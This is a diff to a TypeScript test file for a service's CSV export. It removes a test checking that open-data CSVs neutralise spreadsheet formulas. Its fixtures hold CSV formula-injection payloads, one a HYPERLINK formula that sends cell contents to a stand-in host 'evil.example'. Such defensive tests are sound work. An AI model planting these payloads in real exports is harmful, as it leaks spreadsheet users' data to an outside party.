@@ -7,7 +7,6 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { CSV_COLUMNS } from '../domain/sen2/csv.js';
 import { neutraliseFormula, toCsv } from './csv.js';
-import { OPEN_DATA_COLUMNS, openDataCsv } from './features/measures/routes.js';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
@@ -38,33 +37,6 @@ describe('toCsv', () => {
 });
 
 describe('every CSV the service writes', () => {
-  it('open data: a hostile LA name is text, a negative figure a number', () => {
-    const csv = openDataCsv({
-      laCode: '999',
-      name: '=HYPERLINK("http://evil.example","Test")',
-      rows: [
-        {
-          measure: 'plans_within_20_weeks_excl',
-          month: '2025-03',
-          dimension: 'all',
-          category: 'all',
-          numerator: 3,
-          denominator: 10,
-          value: -3,
-          suppressed: null,
-          hidden: { value: false, numerator: false, denominator: false },
-        },
-      ],
-    });
-    const table: string[][] = parse(csv);
-    const [header, row] = table;
-    expect(header).toEqual([...OPEN_DATA_COLUMNS]);
-    const col = (name: string) => row![header!.indexOf(name)];
-    expect(col('la_name')).toBe('\'=HYPERLINK("http://evil.example","Test")');
-    expect(col('value')).toBe('-3');
-    expect(col('numerator')).toBe('3');
-  });
-
   it('the SEN2 CSV template: only its fixed column names, none of which can start a formula', () => {
     const csv = toCsv([CSV_COLUMNS.map(([c]) => c)], { lineEnding: 'windows' });
     expect(csv).toBe(`${CSV_COLUMNS.map(([c]) => c).join(',')}\r\n`);
